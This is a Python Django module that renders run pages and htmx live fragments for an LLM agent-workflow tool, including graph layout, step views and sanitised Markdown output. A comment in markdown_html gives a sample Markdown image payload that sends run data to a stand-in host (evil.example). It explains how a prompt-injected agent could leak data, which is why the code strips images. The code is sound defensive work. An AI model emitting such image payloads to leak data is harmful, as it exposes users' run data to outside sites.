"""HTML of the run pages and of the live fragments that replace parts of them.

The pages and the live updates render the same template partials (templates/runs/_live.html), so
a page rendered now and a page kept up to date by events show the same picture. Every fragment is
a snapshot of the database when it is rendered (never of the event payload alone), with an
`id` that htmx's `hx-swap-oob` uses to replace it. Applying a run's fragments in `seq` order
therefore always ends on the current state, whatever was rendered in between.

runs/events.py renders with `render_events`, `render_dashboard_row` and `render_stream` when it
publishes; the consumers and the polling view render stored events with `render_events` too.
"""

from __future__ import annotations

import json
import re
from collections import deque
from dataclasses import dataclass, field
from decimal import Decimal

import markdown
import nh3
from django.contrib.auth import get_user_model
from django.db.models import Q
from django.template.loader import render_to_string
from django.utils.safestring import SafeString, mark_safe

from runs import engine, rows
from runs.models import Run, RunEvent, Step
from teams.models import Workflow, WorkflowVersion
from teams.spec import entry_node, node_map

DASHBOARD_KINDS = {"run.created", "run.status", "run.totals"}
# A run's version without the columns `engine.spec_of` reads once per process and caches.
VERSION_SPEC = ("version__spec", "version__layout")

# What a node in the graph shows for its latest step; nodes that never ran are "idle".
NODE_STATUS_LABELS = {
    "idle": "not started",
    Step.PENDING: "pending",
    Step.RUNNING: "running",
    Step.WAITING: "waiting",
    Step.SUCCEEDED: "done",
    Step.FAILED: "failed",
    Step.SKIPPED: "skipped",
    Step.CANCELLED: "cancelled",
}

NODE_W, NODE_H, GAP_X, GAP_Y, MARGIN = 176, 54, 36, 58, 20
# The engine's blocked_on values that read badly after "waiting for".
BLOCKED_LABELS = {"paused": "someone to resume it"}
# Steps the engine may change in bulk, without a step event: re-rendered on run.status.
BULK_CHANGED = (Step.PENDING, Step.RUNNING, Step.WAITING, Step.FAILED, Step.CANCELLED)
CONTROLS = (
    ("pause", "Pause"),
    ("resume", "Resume"),
    ("retry", "Retry failed step"),
    ("cancel", "Cancel"),
)


# --- formatting ---------------------------------------------------------------------------------


def money(value: Decimal | float | None) -> str:
    """LLM calls cost fractions of a cent: show enough digits to see a cost move."""
    value = Decimal(value or 0)
    if value == 0:
        return "$0.00"
    if value >= 1:
        return f"${value:,.2f}"
    if value >= Decimal("0.01"):
        return f"${value:.4f}"
    return f"${value:.6f}"


def duration(seconds: float | None) -> str:
    if seconds is None:
        return "–"
    if seconds < 60:
        return f"{seconds:.1f}s"
    minutes, secs = divmod(int(seconds), 60)
    if minutes < 60:
        return f"{minutes}m {secs:02d}s"
    hours, minutes = divmod(minutes, 60)
    return f"{hours}h {minutes:02d}m"


def pretty_json(value) -> str:
    return json.dumps(value, indent=2, ensure_ascii=False, sort_keys=False, default=str)


MARKDOWN_TAGS = nh3.ALLOWED_TAGS - {"img"}


def markdown_html(text: str) -> SafeString:
    """Agent output is untrusted: Markdown becomes HTML only through the nh3 sanitiser."""
    html = markdown.markdown(text, extensions=["fenced_code", "tables", "sane_lists"])
    # No images: the browser would fetch their URLs on load, so a prompt-injected agent could
    # send run data to any site (![](https://evil.example/?d=...)) without anyone clicking.
    return mark_safe(nh3.clean(html, tags=MARKDOWN_TAGS))  # noqa: S308 - nh3 removed the rest


def dom_id(text: str) -> str:
    """Node ids are free text; ids in HTML must stay unambiguous and selector-safe."""
    return re.sub(r"[^A-Za-z0-9-]", lambda m: f"_{ord(m.group()):x}_", text)


# --- the workflow graph -------------------------------------------------------------------------


@dataclass
class GraphNode:
    id: str
    dom_id: str
    label: str
    kind: str
    detail: str
    x: float = 0
    y: float = 0


@dataclass
class Graph:
    width: float
    height: float
    nodes: list[GraphNode] = field(default_factory=list)
    edges: list[dict] = field(default_factory=list)


def graph_node(node: dict) -> GraphNode:
    detail = node.get("agent") or node.get("tool") or node.get("workflow") or ""
    if not detail and node.get("agents"):
        detail = ", ".join(str(a) for a in node["agents"])
    return GraphNode(
        id=node["id"],
        dom_id=f"gnode-{dom_id(node['id'])}",
        label=str(node.get("label") or node["id"]),
        kind=str(node.get("kind", "")),
        detail=str(detail),
    )


def layout_graph(spec: dict, positions: dict | None = None) -> Graph:
    """Place the spec's nodes top to bottom, parallel branches side by side.

    1. Edges that close a loop (found by a depth-first walk from the entry) are set aside.
    2. Every node's layer is the longest path to it over the remaining edges.
    3. Within a layer, nodes are ordered by the mean position of their predecessors (two sweeps),
       which keeps branches under the node that fans them out.
    4. Positions saved with the version (the editor's, node centres) win when every node has one.
    """
    nodes = [graph_node(n) for n in spec.get("nodes", []) if isinstance(n, dict) and "id" in n]
    by_id = {n.id: n for n in nodes}
    edges = [
        e
        for e in spec.get("edges", [])
        if isinstance(e, dict) and e.get("source") in by_id and e.get("target") in by_id
    ]
    if not nodes:
        return Graph(width=2 * MARGIN, height=2 * MARGIN)
    back = _back_edges(list(by_id), edges, entry_node(spec))
    forward = [e for i, e in enumerate(edges) if i not in back]

    succ: dict[str, list[str]] = {node_id: [] for node_id in by_id}
    pred: dict[str, list[str]] = {node_id: [] for node_id in by_id}
    for e in forward:
        succ[e["source"]].append(e["target"])
        pred[e["target"]].append(e["source"])

    layer = dict.fromkeys(by_id, 0)
    for node_id in _topological(list(by_id), succ, pred):
        for target in succ[node_id]:
            layer[target] = max(layer[target], layer[node_id] + 1)
    layers: dict[int, list[str]] = {}
    for node_id in by_id:
        layers.setdefault(layer[node_id], []).append(node_id)
    rank = {node_id: i for i, node_id in enumerate(by_id)}
    for _ in range(2):
        for index in sorted(layers):
            layers[index].sort(
                key=lambda n: sum(rank[p] for p in pred[n]) / len(pred[n]) if pred[n] else rank[n]
            )
            for i, node_id in enumerate(layers[index]):
                rank[node_id] = i

    widest = max(len(ids) for ids in layers.values())
    width = widest * NODE_W + (widest - 1) * GAP_X
    for index, ids in layers.items():
        row_width = len(ids) * NODE_W + (len(ids) - 1) * GAP_X
        for i, node_id in enumerate(ids):
            by_id[node_id].x = MARGIN + (width - row_width) / 2 + i * (NODE_W + GAP_X)
            by_id[node_id].y = MARGIN + index * (NODE_H + GAP_Y)
    _apply_saved_positions(nodes, positions)

    graph = Graph(
        width=max(n.x for n in nodes) + NODE_W + MARGIN + (60 if back else 0),
        height=max(n.y for n in nodes) + NODE_H + MARGIN,
        nodes=nodes,
    )
    for i, e in enumerate(edges):
        graph.edges.append(_edge(by_id[e["source"]], by_id[e["target"]], e, i in back))
    return graph


def _back_edges(ids: list[str], edges: list[dict], entry: str | None) -> set[int]:
    outgoing: dict[str, list[tuple[int, str]]] = {node_id: [] for node_id in ids}
    for i, e in enumerate(edges):
        outgoing[e["source"]].append((i, e["target"]))
    state: dict[str, int] = {}  # 1 = on the walk's stack, 2 = finished
    back: set[int] = set()
    starts = ([entry] if entry in outgoing else []) + ids
    for start in starts:
        if start in state:
            continue
        stack = [(start, iter(outgoing[start]))]
        state[start] = 1
        while stack:
            node_id, children = stack[-1]
            for i, target in children:
                if state.get(target) == 1:
                    back.add(i)
                elif target not in state:
                    state[target] = 1
                    stack.append((target, iter(outgoing[target])))
                    break
            else:
                state[node_id] = 2
                stack.pop()
    return back


def _topological(ids: list[str], succ: dict, pred: dict) -> list[str]:
    indegree = {node_id: len(pred[node_id]) for node_id in ids}
    ready = deque(node_id for node_id in ids if indegree[node_id] == 0)
    order: list[str] = []
    while ready:
        node_id = ready.popleft()
        order.append(node_id)
        for target in succ[node_id]:
            indegree[target] -= 1
            if indegree[target] == 0:
                ready.append(target)
    return order


def _apply_saved_positions(nodes: list[GraphNode], positions: dict | None) -> None:
    """Accept {id: {"x", "y"}} or {id: [x, y]}, optionally under "positions" or "nodes"."""
    if not isinstance(positions, dict):
        return
    for key in ("positions", "nodes"):
        if isinstance(positions.get(key), dict):
            positions = positions[key]
    points = {}
    for node in nodes:
        point = positions.get(node.id)
        if isinstance(point, dict):
            point = (point.get("x"), point.get("y"))
        if not (isinstance(point, list | tuple) and len(point) == 2):
            return
        if not all(isinstance(v, int | float) for v in point):
            return
        points[node.id] = point
    min_x = min(x for x, _ in points.values())
    min_y = min(y for _, y in points.values())
    for node in nodes:
        x, y = points[node.id]
        node.x, node.y = MARGIN + x - min_x, MARGIN + y - min_y


def _edge(source: GraphNode, target: GraphNode, edge: dict, back: bool) -> dict:
    on = edge.get("on", "success")
    if back or target.y <= source.y:
        # A loop goes back up along the right-hand side, away from the forward edges.
        x1, y1 = source.x + NODE_W, source.y + NODE_H / 2
        x2, y2 = target.x + NODE_W, target.y + NODE_H / 2
        bulge = max(x1, x2) + 50
        path = (
            f"M{x1:.0f},{y1:.0f} C{bulge:.0f},{y1:.0f} {bulge:.0f},{y2:.0f} {x2 + 4:.0f},{y2:.0f}"
        )
        label_at = (bulge - 20, (y1 + y2) / 2)
    else:
        x1, y1 = source.x + NODE_W / 2, source.y + NODE_H
        x2, y2 = target.x + NODE_W / 2, target.y
        bend = (y2 - y1) / 2
        path = (
            f"M{x1:.0f},{y1:.0f} C{x1:.0f},{y1 + bend:.0f} {x2:.0f},{y2 - bend:.0f} "
            f"{x2:.0f},{y2 - 4:.0f}"
        )
        label_at = ((x1 + x2) / 2 + 4, (y1 + y2) / 2)
    label = edge.get("label") or ""
    condition = edge.get("condition")
    if not label and isinstance(condition, dict):
        label = " ".join(str(condition.get(key, "")) for key in ("path", "op", "value"))
    if not label and edge.get("default"):
        label = "default"
    if on != "success":
        label = f"on {on}" + (f": {label}" if label else "")
    if edge.get("max_iterations"):
        label = (label + " " if label else "") + f"≤{edge['max_iterations']}×"
    return {
        "path": path,
        "on": on,
        "back": back,
        "label": label.strip()[:40],
        "label_x": label_at[0],
        "label_y": label_at[1],
    }


def node_statuses(steps) -> dict[str, Step]:
    """The latest step of each node (a loop's last pass, a retry's last attempt)."""
    latest: dict[str, Step] = {}
    for step in steps:
        current = latest.get(step.node_id)
        if current is None or (step.iteration, step.created_at, step.pk) >= (
            current.iteration,
            current.created_at,
            current.pk,
        ):
            latest[step.node_id] = step
    return latest


# --- contexts -----------------------------------------------------------------------------------


def run_header_context(run: Run, running: list[Step] | None = None) -> dict:
    """`running`: the run's running steps, when the caller has them at hand."""
    elapsed = run.duration_s
    return {
        "run": run,
        "cost": money(run.cost),
        "elapsed": duration(elapsed),
        "elapsed_s": f"{elapsed:.1f}" if elapsed is not None else "",
        "ticking": run.started_at is not None and run.finished_at is None and run.is_active,
        "blocked": BLOCKED_LABELS.get(run.blocked_on, run.blocked_on) or _working_on(run, running),
    }


def _working_on(run: Run, running: list[Step] | None) -> str:
    """What a running run waits for when nothing blocks it: its steps' LLM or tool calls."""
    if run.status != Run.RUNNING:
        return ""
    if running is None:
        running = list(
            run.steps.filter(status=Step.RUNNING).only("id", "node_id", "kind", "created_at")
        )
    running = sorted(running, key=lambda step: (step.created_at, step.pk))
    groups: dict[str, list[str]] = {}
    for node_id, kind in [(step.node_id, step.kind) for step in running[:6]]:
        if kind in ("parallel", "join"):
            continue
        what = {"tool": "tool", "subworkflow": "sub-workflow", "approval": "approval"}
        groups.setdefault(what.get(kind, "LLM"), []).append(node_id)
    return "; ".join(f"{what}: {', '.join(names)}" for what, names in groups.items())


def controls_context(run: Run) -> dict:
    """Which controls apply now, decided by the engine (the page only reflects it)."""
    can = {
        "cancel": engine.can_cancel(run),
        "pause": engine.can_pause(run),
        "resume": engine.can_resume(run),
        "retry": engine.can_retry(run),
    }
    return {
        "run": run,
        "buttons": [
            {"action": action, "label": label, "enabled": can[action], "danger": action == "cancel"}
            for action, label in CONTROLS
        ],
    }


def graph_node_context(node: GraphNode, step: Step | None) -> dict:
    status = step.status if step else "idle"
    return {
        "node": node,
        "step": step,
        "status": status,
        "status_label": NODE_STATUS_LABELS[status],
    }


def step_context(step: Step) -> dict:
    return {
        "step": step,
        "cost": money(step.cost),
        "latency": duration(step.latency_ms / 1000) if step.latency_ms else "",
        "messages": _prompt_messages(step.input),
        "other_input": _other_input(step.input),
        "output": _output(step),
        "tool_calls": _tool_calls(step),
        "attempts": [a for a in step.attempts or [] if isinstance(a, dict)],
    }


def value_context(value) -> dict:
    """A run's result or a step's output: Markdown when it is text, JSON otherwise."""
    if value is None:
        return {"empty": True}
    if isinstance(value, str):
        return {"markdown": markdown_html(value)}
    return {"json": pretty_json(value)}


def _prompt_messages(step_input) -> list[dict]:
    messages = step_input.get("messages") if isinstance(step_input, dict) else None
    rendered = []
    for message in messages or []:
        if not isinstance(message, dict):
            continue
        content = message.get("content")
        if isinstance(content, list):
            content = "\n".join(
                part.get("text", "") if isinstance(part, dict) else str(part) for part in content
            )
        elif content is None and message.get("tool_calls"):
            content = pretty_json(message["tool_calls"])
        rendered.append({"role": str(message.get("role", "")), "content": str(content or "")})
    return rendered


def _other_input(step_input) -> str:
    if not isinstance(step_input, dict):
        return pretty_json(step_input) if step_input else ""
    rest = {k: v for k, v in step_input.items() if k != "messages"}
    return pretty_json(rest) if rest else ""


def _output(step: Step) -> dict:
    context = value_context(step.output)
    if step.output_text and step.output_text != step.output:
        context["text"] = markdown_html(step.output_text)
    return context


def _tool_calls(step: Step) -> list[dict]:
    """The recorded calls while the step runs (step.tool_calls is only written at its end);
    the step's own list for steps a fork copied, which have no records."""
    records = list(step.tool_call_records.all())
    if records:
        records.sort(key=lambda call: (call.epoch, call.call_index))
        return [
            _tool_call(
                {
                    "tool": r.tool,
                    "status": r.status,
                    "error": r.error,
                    "result": r.result,
                    "arguments": r.approved_arguments or r.arguments,
                }
            )
            for r in records
        ]
    return [_tool_call(call) for call in step.tool_calls or [] if isinstance(call, dict)]


def _tool_call(call: dict) -> dict:
    return {
        "tool": str(call.get("tool", "")),
        "status": str(call.get("status", "")),
        "arguments": pretty_json(call.get("arguments")),
        "result": pretty_json(call.get("result")) if call.get("result") is not None else "",
        "error": str(call.get("error") or ""),
    }


def event_summary(event: RunEvent) -> str:
    payload = event.payload if isinstance(event.payload, dict) else {}
    parts = []
    for key in ("node_id", "status", "tool", "model", "kind", "title"):
        if payload.get(key) not in (None, ""):
            parts.append(str(payload[key]))
    if payload.get("tokens"):
        parts.append(f"{payload['tokens']} tokens")
    if payload.get("cost") not in (None, "", 0, "0"):
        try:
            parts.append(money(Decimal(str(payload["cost"]))))
        except ArithmeticError:
            pass
    if payload.get("error"):
        parts.append(str(payload["error"])[:200])
    return " · ".join(parts)


# What a run's row in the runs list shows, of the run, its workflow, its version and who
# started it: the publisher reads only this for every batch with a dashboard event.
_User = get_user_model()
_ROW = rows.Rows(
    [
        (
            Run,
            "r",
            rows.all_but(
                Run,
                "id",
                "status",
                "started_by",
                "created_at",
                "started_at",
                "finished_at",
                "total_tokens",
                "cost",
            ),
        ),
        (Workflow, "w", rows.all_but(Workflow, "id", "name")),
        (WorkflowVersion, "v", rows.all_but(WorkflowVersion, "id", "number")),
        (_User, "u", rows.all_but(_User, "id", _User.USERNAME_FIELD)),
    ]
)


def dashboard_runs(run_ids) -> dict[int, Run]:
    """The runs of these ids, by id, with what their rows in the runs list show, in one
    written-out query: through the ORM (select_related, in_bulk) it took more CPU than
    rendering the rows."""
    if not run_ids:
        return {}
    found = _ROW.all(
        f"SELECT {_ROW.columns()} FROM {rows.table(Run)} r "
        f"INNER JOIN {rows.table(Workflow)} w ON w.id = r.workflow_id "
        f"INNER JOIN {rows.table(WorkflowVersion)} v ON v.id = r.version_id "
        f"LEFT OUTER JOIN {rows.table(_User)} u ON u.id = r.started_by_id "
        f"WHERE r.id IN ({', '.join(['%s'] * len(run_ids))})",
        list(run_ids),
    )
    runs = {}
    for run, workflow, version, user in found:
        rows.set_cached(run, "workflow", workflow)
        rows.set_cached(run, "version", version)
        rows.set_cached(run, "started_by", user if run.started_by_id else None)
        runs[run.pk] = run
    return runs


def run_row_context(run: Run) -> dict:
    return {"run": run, "cost": money(run.cost), "elapsed": duration(run.duration_s)}


def detail_context(run: Run, last_seq: int) -> dict:
    """Everything the detail page shows. `last_seq` must be read before the rows rendered here,
    so events the page may have missed are replayed (fragments are idempotent)."""
    steps = list(
        run.steps.select_related("agent")
        .prefetch_related("tool_call_records")
        .order_by("created_at", "id")
    )
    latest = node_statuses(steps)
    version = run.version
    graph = layout_graph(version.get_spec(), version.layout)
    graph_nodes = [graph_node_context(node, latest.get(node.id)) for node in graph.nodes]
    events = list(run.events.filter(seq__lte=last_seq).order_by("-seq")[:50])
    events.reverse()
    return {
        "run": run,
        "last_seq": last_seq,
        "header": run_header_context(run),
        "controls": controls_context(run),
        "graph": graph,
        "node_w": NODE_W,
        "node_h": NODE_H,
        "graph_nodes": graph_nodes,
        "steps": [step_context(step) for step in steps],
        "result": value_context(run.result),
        "state_json": pretty_json(run.state),
        "input_json": pretty_json(run.input),
        "events": [{"event": e, "summary": event_summary(e)} for e in events],
        "events_hidden": max(0, last_seq - len(events)),
    }


# --- live fragments -----------------------------------------------------------------------------


def render_events(events: list[RunEvent], run: Run | None = None) -> str:
    """The fragments that consecutive stored events of one run change, each carrying
    `hx-swap-oob`, rendered once for all of them ("" for no events).

    Always: the seq marker of the last event (the page's "last applied seq"), the header and
    every event's line in the activity log. Each step an event names, once (appended if the
    page lacks it, else its parts replaced), and its node in the graph. After a run's status
    change also the steps the engine changes in bulk without events of their own (ending a run
    cancels what is left; a retry puts failed steps back to pending); after a run.* or
    approval.* event the controls; after a status change or a step that ended, the result and
    the state. Every part is a snapshot of the database, so one rendering after the last event
    ends where rendering after each event would have.

    Queries: the run with its version (unless given), the steps to show with their tool calls
    (two), and one for the graph's nodes and what the header says the run is working on.
    """
    if not events:
        return ""
    if run is None:
        run = Run.objects.select_related("version").defer(*VERSION_SPEC).get(pk=events[0].run_id)
    kinds = {event.kind for event in events}
    step_ids = {
        e.payload["step_id"]
        for e in events
        if isinstance(e.payload, dict) and isinstance(e.payload.get("step_id"), int)
    }
    steps: list[Step] = []
    if step_ids or "run.status" in kinds:
        shown = Q(pk__in=step_ids)
        if "run.status" in kinds:
            shown |= Q(status__in=BULK_CHANGED)
        steps = list(
            run.steps.filter(shown)
            .select_related("agent")
            .prefetch_related("tool_call_records")
            .order_by("created_at", "id")
        )
    spec_nodes = node_map(engine.spec_of(run.version))
    node_ids = {step.node_id for step in steps if step.node_id in spec_nodes}
    # One light query serves both the nodes' latest steps and the header's running steps.
    wanted = Q(node_id__in=node_ids)
    if run.status == Run.RUNNING:
        wanted |= Q(status=Step.RUNNING)
    others = []
    if node_ids or run.status == Run.RUNNING:
        others = list(
            Step.objects.filter(Q(run_id=run.pk) & wanted).only(
                "id", "run_id", "node_id", "kind", "iteration", "created_at", "status"
            )
        )
    running = [step for step in others if step.status == Step.RUNNING]
    parts = [
        _partial("seq", {"seq": events[-1].seq}),
        _partial("header", {**run_header_context(run, running), "oob": True}),
        _partial(
            "event-append",
            {"events": [{"event": e, "summary": event_summary(e)} for e in events]},
        ),
    ]
    for step in steps:
        context = {**step_context(step), "oob": True}
        parts.append(_partial("step-append", context))
        parts.append(_partial("step-head", context))
        parts.append(_partial("step-body", context))
    latest = node_statuses(step for step in others if step.node_id in node_ids)
    for node_id in sorted(node_ids):
        node = graph_node(spec_nodes[node_id])
        context = {**graph_node_context(node, latest.get(node_id)), "oob": True}
        parts.append(_partial("graph-node", context))
    if any(kind.startswith(("run.", "approval.")) for kind in kinds):
        parts.append(_partial("controls-buttons", {**controls_context(run), "oob": True}))
    if kinds & {"run.status", "step.finished", "step.failed"}:
        parts.append(
            _partial("result", {"result": value_context(run.result), "run": run, "oob": True})
        )
        parts.append(_partial("state", {"state_json": pretty_json(run.state), "oob": True}))
    return "".join(parts)


def render_dashboard_row(run: Run, inserted: bool) -> str:
    """A run's row in the runs list: inserted at the top for a new run, replaced otherwise."""
    return _partial("row-insert" if inserted else "row", {**run_row_context(run), "oob": True})


def render_stream(step_id: int, text: str) -> str:
    return _partial("stream", {"step_id": step_id, "text": text, "oob": True})


def _partial(name: str, context: dict) -> str:
    return render_to_string(f"runs/_live.html#{name}", context).strip()
